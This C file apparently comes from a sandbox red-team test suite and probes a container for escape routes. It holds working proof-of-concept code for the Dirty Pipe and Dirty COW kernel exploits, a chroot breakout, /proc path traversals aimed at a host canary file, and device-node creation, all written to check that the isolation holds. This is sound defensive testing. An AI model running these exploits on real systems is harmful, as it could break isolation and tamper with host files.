/* Files: the way out of the root, the shared layers, devices, descriptors.  tests/redteam.
 *
 * Facts: CANARY, a file of the host's that nobody inside may read; DATA, the node's folder, whose name must not show;
 * ABSTRACT, an abstract unix socket of the host's; SHM_KEY, a shared memory segment of the host's; FDS, how many
 * descriptors beyond 2 were open when the program began. */
#include "tests/redteam/probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>

static enum verdict create_in(const struct door *d)
{
	char path[128];

	snprintf(path, sizeof path, "%s/.redteam-%d", d->text, (int)getpid());
	int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
	if (fd >= 0)
		unlink(path);
	return door_result(fd, path);
}

/* Opened, nothing written. */
static enum verdict open_for_writing(const struct door *d)
{
	int fd = open(d->text, O_WRONLY | O_CLOEXEC | O_NONBLOCK);

	if (fd < 0 && errno == ENOENT)
		return DOOR_IRRELEVANT;
	/* The kernel is about to let it, were the program not running just now. */
	if (fd < 0 && errno == ETXTBSY)
		return door_say("only because it runs"), DOOR_OPEN;
	return door_result(fd, d->text);
}

static enum verdict open_for_reading(const struct door *d)
{
	int fd = open(d->text, O_RDONLY | O_CLOEXEC | O_NONBLOCK);

	if (fd < 0 && door_outside())
		return door_say("%s", strerror(errno)), DOOR_IRRELEVANT;
	return door_result(fd, d->text);
}

static enum verdict make_device(const struct door *d)
{
	char path[64];

	snprintf(path, sizeof path, "%s/redteam-%d", d->text, (int)getpid());
	mode_t type = d->args[2] ? S_IFBLK : S_IFCHR;
	if (mknod(path, type | 0666, makedev((unsigned)d->args[0], (unsigned)d->args[1])) < 0)
		return door_result(-1, "mknod");
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC), e = errno;
	unlink(path);
	door_say("made; open: %s", fd < 0 ? strerror(e) : "yes");
	return DOOR_OPEN; /* whoever can make one needs only the right place */
}

static enum verdict devices(const struct door *d)
{
	static const char *const fine[] = {".",	  "..",	 "null", "zero", "full",  "random", "urandom", "tty",
					   "pts", "shm", "ptmx", "fd",	 "stdin", "stdout", "stderr"};
	char text[200] = "";
	size_t at = 0;
	DIR *dir = opendir("/dev");

	(void)d;
	for (struct dirent *e; dir && (e = readdir(dir));) {
		bool known = false;
		for (size_t i = 0; i < sizeof fine / sizeof fine[0]; i++)
			known |= strcmp(fine[i], e->d_name) == 0;
		if (!known && at < sizeof text)
			at += (size_t)snprintf(text + at, sizeof text - at, " %s", e->d_name);
	}
	door_say("unknown:%s", text);
	return !dir ? DOOR_BROKEN : at ? DOOR_OPEN : DOOR_CLOSED;
}

static enum verdict descriptors(const struct door *d)
{
	const char *n = door_fact("FDS");

	(void)d;
	door_say("%s", n ? n : "?");
	return !n ? DOOR_BROKEN : strcmp(n, "0") == 0 ? DOOR_CLOSED : DOOR_OPEN;
}

static bool try_canary(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return false;
	door_say("read %s", path);
	close(fd);
	return true;
}

/* The host's file by every way that ever led out of a root. */
static enum verdict canary(const struct door *d)
{
	const char *file = door_fact("CANARY");
	char path[512];

	if (!file)
		return DOOR_BROKEN;
	snprintf(path, sizeof path, "%s%s", d->text, file);
	if (!strstr(path, "/PID/"))
		return try_canary(path) ? DOOR_OPEN : DOOR_CLOSED;
	for (int pid = 1; pid < 300; pid++) {
		char other[600], *mark = strstr(path, "/PID/");
		snprintf(other, sizeof other, "%.*s/%d/%s", (int)(mark - path), path, pid, mark + 5);
		if (try_canary(other))
			return DOOR_OPEN;
	}
	return DOOR_CLOSED;
}

/* chroot(2)'s old hole, and a directory that is moved from under a process. */
static enum verdict climb(const struct door *d)
{
	struct stat root, here;

	(void)d;
	if (!door_aside(CLONE_NEWNS))
		return DOOR_IRRELEVANT;
	mkdir("/tmp/redteam-climb", 0700);
	int out = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (chroot("/tmp/redteam-climb") < 0) {
		rmdir("/tmp/redteam-climb");
		return door_result(-1, "chroot");
	}
	for (int i = 0; i < 64; i++)
		if (fchdir(out) < 0 || chdir("..") < 0)
			break;
	stat("/", &root);
	stat(".", &here);
	rmdir("tmp/redteam-climb");
	door_say("out of the second root");
	return root.st_ino != here.st_ino ? DOOR_OPEN : DOOR_CLOSED;
}

static enum verdict above(const struct door *d)
{
	char here[256] = "";

	(void)d;
	if (!getcwd(here, sizeof here))
		return door_result(-1, "getcwd");
	door_say("%s", here);
	return here[0] == '/' ? DOOR_CLOSED : DOOR_OPEN;
}

static enum verdict mount_table(const struct door *d)
{
	char line[2048];
	const char *data = door_fact("DATA");
	FILE *f = fopen(d->text, "re");

	if (!data)
		return DOOR_BROKEN;
	if (!f)
		return door_result(-1, d->text);
	while (fgets(line, sizeof line, f)) {
		if (strstr(line, data) || strstr(line, "tulou") || strstr(line, "/var/lib")) {
			door_say("%.300s", line);
			return DOOR_OPEN;
		}
	}
	return DOOR_CLOSED;
}

static ssize_t first_bytes(const char *path, unsigned char bytes[64])
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : pread(fd, bytes, 64, 0);

	if (fd >= 0)
		close(fd);
	return n;
}

/* Dirty Pipe (CVE-2022-0847): a pipe whose slots still say "may be merged" takes a page of the file, and the next write
 * goes into the page cache of a file that may only be read. */
static enum verdict dirty_pipe(const struct door *d)
{
	unsigned char before[64], after[64];
	char block[4096];
	int p[2], fd = open(d->text, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || first_bytes(d->text, before) != 64 || pipe(p) < 0)
		return DOOR_BROKEN;
	memset(block, 'x', sizeof block);
	int size = fcntl(p[1], F_GETPIPE_SZ);
	for (int n = 0; n < size; n += (int)sizeof block)
		if (write(p[1], block, sizeof block) < 0)
			return DOOR_BROKEN;
	for (int n = 0; n < size; n += (int)sizeof block)
		if (read(p[0], block, sizeof block) < 0)
			return DOOR_BROKEN;
	loff_t from = 8; /* inside the identification of an ELF file, which nobody reads */
	if (splice(fd, &from, p[1], NULL, 1, 0) < 0)
		return door_result(-1, "splice");
	if (write(p[1], "~", 1) < 0)
		return DOOR_BROKEN;
	first_bytes(d->text, after);
	return memcmp(before, after, 64) ? DOOR_OPEN : DOOR_CLOSED;
}

/* Dirty COW (CVE-2016-5195): forced writes into a private mapping of a file that may only be read. */
static enum verdict dirty_cow(const struct door *d)
{
	unsigned char before[64], after[64];
	int fd = open(d->text, O_RDONLY | O_CLOEXEC), mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);

	if (fd >= 0 && mem < 0 && errno == EROFS) /* /proc is read-only */
		return door_result(mem, "/proc/self/mem");
	if (fd < 0 || mem < 0 || first_bytes(d->text, before) != 64)
		return DOOR_BROKEN;
	char *p = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	for (int i = 0; p != MAP_FAILED && i < 2000; i++) {
		madvise(p, 4096, MADV_DONTNEED);
		if (pwrite(mem, "~", 1, (off_t)(size_t)p + 8) < 0)
			break;
	}
	first_bytes(d->text, after);
	return memcmp(before, after, 64) ? DOOR_OPEN : DOOR_CLOSED;
}

static enum verdict shared_map(const struct door *d)
{
	int fd = open(d->text, O_RDWR | O_CLOEXEC);

	if (fd < 0 && errno != ETXTBSY)
		return door_result(fd, d->text);
	if (fd < 0)
		return door_say("only because it runs"), DOOR_OPEN;
	void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	return door_result(p == MAP_FAILED ? -1 : 0, "mmap");
}

static enum verdict change_owner_or_mode(const struct door *d)
{
	struct stat st;

	if (stat(d->text, &st) < 0)
		return DOOR_IRRELEVANT;
	return door_result(chmod(d->text, st.st_mode & 07777), d->text);
}

static enum verdict hard_link(const struct door *d)
{
	char path[64];

	(void)d;
	/* in the writable layer, so that it is one file system */
	snprintf(path, sizeof path, "/var/tmp/redteam-%d", (int)getpid());
	long r = link("/etc/passwd", path);
	int e = errno;
	unlink(path);
	errno = e;
	return r < 0 && e == EXDEV && door_outside() ? DOOR_IRRELEVANT : door_result(r, "link to a file of root's");
}

static enum verdict abstract_socket(const struct door *d)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	const char *name = door_fact("ABSTRACT");
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	(void)d;
	if (!name)
		return DOOR_BROKEN;
	size_t n = strlen(name);
	memcpy(a.sun_path + 1, name, n);
	return door_result(
		connect(s, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)),
		"connect");
}

static enum verdict shared_memory(const struct door *d)
{
	const char *key = door_fact("SHM_KEY");

	(void)d;
	return key ? door_result(shmget((key_t)strtoul(key, NULL, 0), 0, 0), "shmget") : DOOR_BROKEN;
}

#define FILES(what, which, function, ...)                                                                              \
	{                                                                                                              \
		.name = "files." what, .rule = which, .try = function, __VA_ARGS__                                     \
	}
#define DEVICE(what, major, minor, block)                                                                              \
	FILES("mknod_" what, RULE_USERS, make_device, .text = "/tmp", .args = {major, minor, block}),                  \
		FILES("mknod_app_" what, RULE_USERS, make_device, .text = "/var/tmp", .args = {major, minor, block})

const struct door doors_files[] = {
	FILES("create_in_root", RULE_PATHS, create_in, .text = "/"),
	FILES("create_in_usr", RULE_LAYERS, create_in, .text = "/usr"),
	FILES("create_in_usr_bin", RULE_LAYERS, create_in, .text = "/usr/bin"),
	FILES("create_in_lib", RULE_LAYERS, create_in, .text = "/lib"),
	FILES("create_in_etc", RULE_LAYERS, create_in, .text = "/etc"),
	FILES("create_in_dev", RULE_PATHS, create_in, .text = "/dev"),
	FILES("write_usr_bin_env", RULE_LAYERS, open_for_writing, .text = "/usr/bin/env"),
	FILES("write_libc", RULE_LAYERS, open_for_writing, .text = "/lib/x86_64-linux-gnu/libc.so.6"),
	FILES("write_passwd", RULE_LAYERS, open_for_writing, .text = "/etc/passwd"),
	FILES("write_hosts", RULE_LAYERS, open_for_writing, .text = "/etc/hosts"),
	FILES("chmod_env", RULE_LAYERS, change_owner_or_mode, .text = "/usr/bin/env"),
	FILES("chmod_passwd", RULE_LAYERS, change_owner_or_mode, .text = "/etc/passwd"),
	FILES("map_env_shared", RULE_LAYERS, shared_map, .text = "/usr/bin/env"),
	FILES("dirty_pipe", RULE_LAYERS, dirty_pipe, .text = "/usr/bin/env",
	      .inside_only = "where the kernel has the hole it changes a program of the host"),
	FILES("dirty_cow", RULE_LAYERS, dirty_cow, .text = "/usr/bin/env",
	      .inside_only = "where the kernel has the hole it changes a program of the host"),
	FILES("init_program", RULE_DESCRIPTORS, open_for_writing, .text = "/proc/1/exe"),
	FILES("init_program_read", RULE_DESCRIPTORS, open_for_reading, .text = "/proc/1/exe"),
	FILES("descriptors", RULE_DESCRIPTORS, descriptors, ),
	FILES("working_directory", RULE_DESCRIPTORS, above, .inside_only = "a property of the pivot"),
	FILES("canary", RULE_PATHS, canary, .text = ""),
	FILES("canary_dotdot", RULE_PATHS, canary, .text = "/../../../../../../../.."),
	FILES("canary_init_root", RULE_PATHS, canary, .text = "/proc/1/root"),
	FILES("canary_init_cwd", RULE_PATHS, canary, .text = "/proc/1/cwd/../../../../../../.."),
	FILES("canary_any_root", RULE_PATHS, canary, .text = "/proc/PID/root"),
	FILES("canary_any_cwd", RULE_PATHS, canary, .text = "/proc/PID/cwd/../../../../../../.."),
	FILES("climb", RULE_PATHS, climb, ),
	FILES("mount_table", RULE_PATHS, mount_table, .text = "/proc/self/mountinfo"),
	FILES("mount_table_init", RULE_PATHS, mount_table, .text = "/proc/1/mountinfo"),
	FILES("hard_link", RULE_PATHS, hard_link, ),
	FILES("abstract_socket", RULE_NETWORK, abstract_socket, ),
	FILES("shared_memory", RULE_PATHS, shared_memory, ),
	FILES("devices", RULE_PATHS, devices, ),
	DEVICE("mem", 1, 1, 0),
	DEVICE("port", 1, 4, 0),
	DEVICE("kmsg", 1, 11, 0),
	DEVICE("tty0", 4, 0, 0),
	DEVICE("loop_control", 10, 237, 0),
	DEVICE("kvm", 10, 232, 0),
	DEVICE("fuse", 10, 229, 0),
	DEVICE("tun", 10, 200, 0),
	DEVICE("loop0", 7, 0, 1),
	DEVICE("disk", 254, 0, 1),
	FILES("open_mem", RULE_PATHS, open_for_reading, .text = "/dev/mem"),
	FILES("open_kmsg", RULE_PATHS, open_for_reading, .text = "/dev/kmsg"),
	FILES("open_kvm", RULE_PATHS, open_for_reading, .text = "/dev/kvm"),
	FILES("open_fuse", RULE_PATHS, open_for_reading, .text = "/dev/fuse"),
	FILES("open_loop_control", RULE_PATHS, open_for_reading, .text = "/dev/loop-control"),
	FILES("open_tun", RULE_PATHS, open_for_reading, .text = "/dev/net/tun"),
	FILES("open_disk", RULE_PATHS, open_for_reading, .text = "/dev/vda"),
	FILES("open_vsock", RULE_PATHS, open_for_reading, .text = "/dev/vsock"),
	FILES("open_userfaultfd", RULE_PATHS, open_for_reading, .text = "/dev/userfaultfd"),
	{0},
};
